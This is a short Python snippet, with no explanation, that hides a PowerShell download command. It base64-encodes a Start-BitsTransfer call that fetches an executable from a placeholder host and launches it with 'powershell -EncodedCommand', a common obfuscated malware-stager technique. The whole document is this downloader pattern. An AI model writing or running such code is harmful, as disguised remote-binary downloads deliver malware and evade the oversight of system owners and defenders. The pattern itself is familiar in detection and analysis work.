import base64, subprocess
src = "Start-BitsTransfer -Source https://c.example.invalid/a.exe"
enc = base64.b64encode(src.encode("utf-16-le")).decode()
subprocess.Popen(f"powershell -NoProfile -EncodedCommand {enc}")
